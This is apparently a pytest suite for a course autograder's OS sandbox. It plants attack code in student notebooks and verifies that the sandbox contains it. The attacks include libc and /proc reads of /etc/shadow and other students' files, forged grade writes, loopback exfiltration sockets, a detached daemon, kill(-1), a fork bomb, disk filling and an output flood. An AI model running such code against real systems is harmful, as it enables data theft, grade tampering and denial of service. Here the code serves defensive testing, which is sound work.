"""Hostile submissions against the OS sandbox: each attack ends as a recorded grade.

One batch (2 workers) grades a classmate's correct notebook, one notebook per attack
and a few honest notebooks that editors save differently. Every attack runs in the
student-editable cell of the toy lesson and bypasses the interpreter where it can
(``ctypes`` calls into the C library), so what stops it is the operating system. The
tests then check, for each attack: a recorded grade with a clear reason, nothing leaked
(the loopback listeners received nothing, no secret text in any result or feedback),
nothing outside the worker's folder changed, no process left, the batch finished.

Network attacks target 127.0.0.1 and an abstract Unix socket only; the listeners run
for the batch alone and are closed afterwards. Loops in the attacks are bounded.
"""

from __future__ import annotations

import copy
import hashlib
import json
import os
import re
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from _autograder_testing import CHECKS, SOLUTIONS, TOY, TOY_SOLUTION

from autograder.batch import grade_submissions
from autograder.course_layout import CHECKS_DIR, REPO_ROOT
from autograder.os_sandbox import (
    SANDBOX_UID_BASE,
    SANDBOX_UID_SPAN,
    WORKER_INSIDE,
    os_sandbox_problem,
)
from autograder.results import BatchResult, NotebookResult, safe_name
from autograder.sandbox import SandboxLimits

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(
        os_sandbox_problem() is not None, reason=f"no OS sandbox here: {os_sandbox_problem()}"
    ),
]

CLASSMATE_MARKER = "CLASSMATE-SECRET-7f3a9c"
SENTINEL = '{"note": "written before the batch; must survive"}\n'
DISK_MB = 64

PRELUDE = """
import ctypes, os, socket
libc = ctypes.CDLL(None, use_errno=True)
REPORT = []
def note(what, outcome):
    REPORT.append(f"{what}={outcome}")
def macro_f1(preds, labels):
    return "REPORT " + " ".join(REPORT)
"""


def _attack_read(targets: list[str]) -> str:
    folders = sorted({str(Path(t).parent) for t in targets if not t.startswith("/etc")})
    return f"""
refused = 0
def attempt(route, path, read):
    global refused
    try:
        note(route + ":" + path, "READ:" + read())
    except Exception:
        refused += 1
def by_open(path):
    with open(path, "rb") as handle:
        return handle.read(40).decode("latin-1")
def by_libc(path):
    # The C library directly: no audit hook sees it.
    fd = libc.open(path.encode(), 0)
    if fd < 0:
        raise OSError(ctypes.get_errno(), "libc open")
    buffer = ctypes.create_string_buffer(40)
    libc.read(fd, buffer, 40)
    return buffer.raw.decode("latin-1")
def by_dir_fd(path):
    root = os.open("/", os.O_RDONLY)
    return os.read(os.open(path.lstrip("/"), os.O_RDONLY, dir_fd=root), 40).decode("latin-1")
def by_link(path):
    link = os.path.join(os.environ["HOME"], "link")
    if os.path.lexists(link):
        os.remove(link)
    os.symlink(path, link)
    return by_open(link)
for path in {targets!r}:
    attempt("open", path, lambda: by_open(path))
    attempt("libc", path, lambda: by_libc(path))
    attempt("dirfd", path, lambda: by_dir_fd(path))
    attempt("link", path, lambda: by_link(path))
    # The root of PID 1 and of the parent, as /proc shows them.
    for proc in ("/proc/1/root", "/proc/" + str(os.getppid()) + "/root"):
        attempt(proc, path, lambda: by_open(proc + path))
for folder in {folders!r}:
    try:
        note("list:" + folder, "LISTED:" + ",".join(os.listdir(folder)[:5]))
    except Exception:
        refused += 1
try:
    import autograder
    note("import autograder", "IMPORTED:" + str(autograder.__path__))
except Exception:
    refused += 1
note("refused", refused)
"""


def _attack_write(targets: list[str]) -> str:
    forged = json.dumps({"student": "hacker", "total": 999, "version": 1})
    return f"""
forged = {forged!r}
refused = 0
for path in {targets!r}:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as handle:
            handle.write(forged)
        note("write:" + path, "WROTE")
    except Exception:
        refused += 1
    fd = libc.open(path.encode(), 0o1101, 0o644)  # O_WRONLY | O_CREAT | O_TRUNC
    if fd >= 0:
        note("libc:" + path, "WROTE")
    else:
        refused += 1
note("refused", refused)
"""


def _attack_network(tcp_port: int, udp_port: int, unix_name: str) -> str:
    return f"""
for family, kind, address in [
    (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", {tcp_port})),
    (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", {udp_port})),
    (socket.AF_UNIX, socket.SOCK_STREAM, "\\0{unix_name}"),
]:
    try:
        sock = socket.socket(family, kind)
        sock.settimeout(2)
        if kind == socket.SOCK_DGRAM:
            sock.sendto(b"STOLEN", address)
            note("udp", "SENT-BUT-NOWHERE")
        else:
            sock.connect(address)
            sock.sendall(b"STOLEN")
            note("connect:" + str(address), "CONNECTED")
        sock.close()
    except Exception as error:
        note("net:" + str(address), type(error).__name__)
try:
    note("interfaces", ",".join(name for _, name in socket.if_nameindex()))
except Exception as error:
    note("interfaces", type(error).__name__)
"""


def _attack_daemon(gradebook: str) -> str:
    return f"""
pid = libc.fork()
if pid == 0:
    libc.setsid()
    if libc.fork() == 0:
        for _ in range(300):  # bounded: 60 s
            try:
                with open({gradebook!r}, "a") as handle:
                    handle.write("daemon,999\\n")
            except Exception:
                pass
            libc.usleep(200000)
    libc._exit(0)
note("daemon", "started" if pid > 0 else "fork failed")
"""


ATTACK_KILL = """
import signal
for target in (1, os.getppid()):
    note(f"kill {target}", libc.kill(target, signal.SIGKILL))
visible = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
note("pids seen", ",".join(map(str, visible)))
own = {int(task) for task in os.listdir("/proc/self/task")}  # its own threads
for pid in range(2, 2000):  # whatever a guess at the grader's pid would be
    if pid not in own:
        libc.kill(pid, signal.SIGKILL)
libc.kill(-1, signal.SIGKILL)
"""

ATTACK_FORK_BOMB = """
forked = 0
for _ in range(5000):
    pid = libc.fork()
    if pid == 0:
        while True:
            libc.pause()
    if pid < 0:
        note("fork stopped", "errno" + str(ctypes.get_errno()))
        break
    forked += 1
note("forked", forked)
"""

ATTACK_FILL_DISK = """
chunk = b"x" * 2**20
for folder in (os.environ["HOME"], "/dev/shm", "/tmp"):
    written = 0
    try:
        with open(os.path.join(folder, "filler"), "wb") as handle:
            for _ in range(4096):  # at most 4 GB
                handle.write(chunk)
                handle.flush()
                written += 1
    except Exception as error:
        note("fill:" + folder, f"{written}MB:{type(error).__name__}")
"""

ATTACK_FLOOD = """
for fd in (1, 2):  # C-level output: a capped file in the worker's folder
    try:
        os.write(fd, b"o" * 100_000_000)
    except OSError:
        pass
print("p" * 50_000_000)
# The answer channel: write a frame header that claims a terabyte.
for fd in range(3, 64):
    try:
        if os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:") and fd != 0:
            os.write(fd, (2**40).to_bytes(8, "big") + b"garbage")
    except OSError:
        pass
"""


def _notebook(code: str) -> dict:
    notebook = json.loads(TOY_SOLUTION.read_text())
    out = copy.deepcopy(notebook)
    for cell in out["cells"]:
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "macro_f1":
            cell["source"] = (PRELUDE + code).strip("\n")
    return out


class Listeners:
    """A TCP, a UDP and an abstract Unix listener on loopback that record what arrives."""

    def __init__(self) -> None:
        self.received: list[str] = []
        self.stop = threading.Event()
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.unix_name = f"bertcourse-attack-{os.getpid()}"
        self.unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.unix.bind("\0" + self.unix_name)
        self.unix.listen()
        for sock in (self.tcp, self.udp, self.unix):
            sock.settimeout(0.2)
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stop.is_set():
            for sock in (self.tcp, self.unix):
                try:
                    connection, _ = sock.accept()
                    self.received.append(f"connection on {sock.family.name}")
                    connection.close()
                except OSError:
                    pass
            try:
                data, _ = self.udp.recvfrom(1024)
                self.received.append(f"datagram {data!r}")
            except OSError:
                pass

    def close(self) -> None:
        self.stop.set()
        self.thread.join(timeout=5)
        for sock in (self.tcp, self.udp, self.unix):
            sock.close()


def _snapshot(*folders: Path) -> dict[str, str]:
    state = {}
    for folder in folders:
        for path in sorted(folder.rglob("*")):
            if path.is_file():
                state[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return state


def _sandbox_processes() -> list[str]:
    """Processes of any sandbox: by the workers' user ids or the worker's path."""
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            uid = entry.stat().st_uid
            command = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode()
        except OSError:
            continue
        in_range = SANDBOX_UID_BASE <= uid < SANDBOX_UID_BASE + SANDBOX_UID_SPAN
        if in_range or WORKER_INSIDE in command:
            found.append(f"{entry.name} uid={uid} {command[:80]}")
    return found


@pytest.fixture(scope="module")
def attack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict]:
    root = tmp_path_factory.mktemp("attack")
    submissions = root / "submitted"
    out = root / "results"
    canary = root / "canary"
    canary.mkdir()
    (canary / "keep.txt").write_text("untouched")
    (out / "earlier").mkdir(parents=True)
    (out / "earlier" / "earlier.json").write_text(SENTINEL)
    submissions.mkdir()

    # The classmate's notebook: correct, with a secret in it.
    classmate = json.loads(TOY_SOLUTION.read_text())
    classmate["cells"][0]["source"] = f"# {CLASSMATE_MARKER}\n" + "".join(
        classmate["cells"][0]["source"]
    )
    (submissions / "classmate.ipynb").write_text(json.dumps(classmate))

    forbidden_reads = [
        str(submissions / "classmate.ipynb"),
        str(out / "earlier" / "earlier.json"),
        str(REPO_ROOT / "solutions" / "05_ner" / "05_ner.ipynb"),
        str(CHECKS_DIR / "05_ner.py"),
        str(CHECKS / "toy_lesson.py"),
        str(SOLUTIONS / TOY / f"{TOY}.ipynb"),
        str(REPO_ROOT / ".git" / "config"),
        str(canary / "keep.txt"),
        "/etc/shadow",
    ]
    forbidden_writes = [
        str(out / "hacker" / "hacker.json"),
        str(out / "classmate" / "classmate.json"),
        str(out / "earlier" / "earlier.json"),
        str(out / "gradebook.csv"),
        str(submissions / "classmate.ipynb"),
        str(canary / "keep.txt"),
        str(canary / "new.txt"),
        f"/tmp/bertcourse-attack-{os.getpid()}",
    ]
    listeners = Listeners()
    attacks = {
        "read_everything": _attack_read(forbidden_reads),
        "write_outside": _attack_write(forbidden_writes),
        "network": _attack_network(
            listeners.tcp.getsockname()[1], listeners.udp.getsockname()[1], listeners.unix_name
        ),
        "daemon": _attack_daemon(str(out / "gradebook.csv")),
        "kill_grader": ATTACK_KILL,
        "fork_bomb": ATTACK_FORK_BOMB,
        "fill_disk": ATTACK_FILL_DISK,
        "flood_output": ATTACK_FLOOD,
    }
    for name, code in attacks.items():
        (submissions / f"{name}.ipynb").write_text(json.dumps(_notebook(code)))

    # Honest notebooks as editors save them, and two names one character apart.
    solution = TOY_SOLUTION.read_text()
    (submissions / "bom.ipynb").write_bytes(b"\xef\xbb\xbf" + solution.encode())
    (submissions / "crlf.ipynb").write_bytes(solution.replace("\n", "\r\n").encode())
    older = json.loads(solution)
    older["nbformat_minor"] = 1
    for cell in older["cells"]:
        cell.pop("id", None)
    (submissions / "nbformat_4_1.ipynb").write_text(json.dumps(older))
    (submissions / "a b.ipynb").write_text(solution)
    (submissions / "a_b.ipynb").write_text(solution)

    before = _snapshot(submissions, canary)
    try:
        batch = grade_submissions(
            submissions=submissions,
            out_dir=out,
            workers=2,
            lesson=TOY,
            checks_dir=CHECKS,
            solutions_dir=SOLUTIONS,
            progress=False,
            limits=SandboxLimits(memory_mb=3072, cpu_seconds=120, disk_mb=DISK_MB),
        )
    finally:
        listeners.close()
    yield {
        "batch": batch,
        "listeners": listeners,
        "before": before,
        "after": _snapshot(submissions, canary),
        "submissions": submissions,
        "out": out,
        "attacks": attacks,
    }
    Path(f"/tmp/bertcourse-attack-{os.getpid()}").unlink(missing_ok=True)


def _result(batch: BatchResult, student: str) -> NotebookResult:
    return next(r for r in batch.results if r.student == student)


def _everything_said(result: NotebookResult) -> str:
    parts = [*result.problems, result.detail or ""]
    for exercise in result.exercises:
        for check in exercise.checks:
            parts += [check.reason or "", check.detail or ""]
    return "\n".join(parts)


def test_the_batch_finished_with_a_result_for_every_submission(attack: dict) -> None:
    batch = attack["batch"]
    names = {p.stem for p in attack["submissions"].glob("*.ipynb")}
    assert {r.student for r in batch.results} == names
    for result in batch.results:
        path = attack["out"] / safe_name(result.student) / f"{safe_name(result.notebook)}.json"
        assert json.loads(path.read_text())["student"] == result.student


def test_the_classmate_and_honest_notebooks_score_full_marks(attack: dict) -> None:
    for student in ("classmate", "bom", "crlf", "nbformat_4_1", "a b", "a_b"):
        result = _result(attack["batch"], student)
        assert result.status == "graded" and result.total == result.max_points == 6, (
            student,
            result.problems,
        )


def test_names_one_character_apart_get_their_own_result_files(attack: dict) -> None:
    out = attack["out"]
    assert (out / "a%20b" / "a%20b.json").is_file() and (out / "a_b" / "a_b.json").is_file()
    assert json.loads((out / "a%20b" / "a%20b.json").read_text())["student"] == "a b"


@pytest.mark.parametrize(
    "name",
    [
        "read_everything",
        "write_outside",
        "network",
        "daemon",
        "kill_grader",
        "fork_bomb",
        "fill_disk",
        "flood_output",
    ],
)
def test_each_attack_is_a_recorded_grade_with_a_reason(attack: dict, name: str) -> None:
    result = _result(attack["batch"], name)
    assert result.status == "graded"
    macro = next(e for e in result.exercises if e.grade_id == "macro_f1_tests")
    assert macro.points == 0  # the attack answered nothing
    assert all(c.reason for c in macro.checks), [c.reason for c in macro.checks]
    others = {e.grade_id: e.points for e in result.exercises if e.grade_id != "macro_f1_tests"}
    # The honest exercises of the same notebook are still graded (a crash is replayed).
    assert others == {"tokenize_function_tests": 2, "n_tokens_tests": 1}, result.problems


def test_nothing_was_read(attack: dict) -> None:
    said = _everything_said(_result(attack["batch"], "read_everything"))
    assert "REPORT" in said  # the attack ran and reported
    for leaked in ("READ", "LISTED", "IMPORTED", CLASSMATE_MARKER, "BEGIN SOLUTION", "untouched"):
        assert leaked not in said, leaked
    for result in attack["batch"].results:
        if result.student != "classmate":
            assert CLASSMATE_MARKER not in json.dumps(result.to_dict())
    for path in attack["batch"].feedback.values():
        text = path.read_text()
        assert CLASSMATE_MARKER not in text and "BEGIN SOLUTION" not in text


def test_nothing_outside_the_workers_folder_changed(attack: dict) -> None:
    assert attack["after"] == attack["before"]
    out = attack["out"]
    assert (out / "earlier" / "earlier.json").read_text() == SENTINEL
    assert not (out / "hacker").exists()
    assert not Path(f"/tmp/bertcourse-attack-{os.getpid()}").exists()
    gradebook = attack["batch"].gradebook.read_text()
    assert "hacker" not in gradebook and "999" not in gradebook and "daemon,999" not in gradebook
    said = _everything_said(_result(attack["batch"], "write_outside"))
    assert "WROTE" not in said and "REPORT" in said


def test_the_loopback_listeners_received_nothing(attack: dict) -> None:
    assert attack["listeners"].received == []
    said = _everything_said(_result(attack["batch"], "network"))
    assert "CONNECTED" not in said and "interfaces=lo" in said


def test_no_process_is_left(attack: dict) -> None:
    assert _sandbox_processes() == []


def test_the_grader_was_out_of_reach(attack: dict) -> None:
    said = _everything_said(_result(attack["batch"], "kill_grader"))
    # Inside its PID namespace the worker sees only its own few processes.
    seen = re.search(r"pids seen=([0-9,]+)", said)
    assert seen and all(int(pid) < 100 for pid in seen.group(1).split(","))


def test_a_fork_bomb_stops_at_the_process_limit(attack: dict) -> None:
    said = _everything_said(_result(attack["batch"], "fork_bomb"))
    forked = int(re.search(r"forked=([0-9]+)", said).group(1))
    assert "fork stopped=errno11" in said  # EAGAIN: the limit stopped it, not the loop
    assert 0 < forked <= SandboxLimits().max_processes


def test_filling_the_disk_stops_at_the_workers_quota(attack: dict) -> None:
    said = _everything_said(_result(attack["batch"], "fill_disk"))
    home = re.search(r"fill:/home/student=([0-9]+)MB", said)
    assert home and int(home.group(1)) <= DISK_MB
    assert "fill:/tmp=0MB" in said  # there is no /tmp of the machine in the view


def test_a_flood_of_output_ends_as_a_recorded_crash(attack: dict) -> None:
    result = _result(attack["batch"], "flood_output")
    path = attack["out"] / "flood_output" / "flood_output.json"
    assert path.stat().st_size < 200_000
    assert any("too large" in p or "stopped" in p for p in result.problems), result.problems
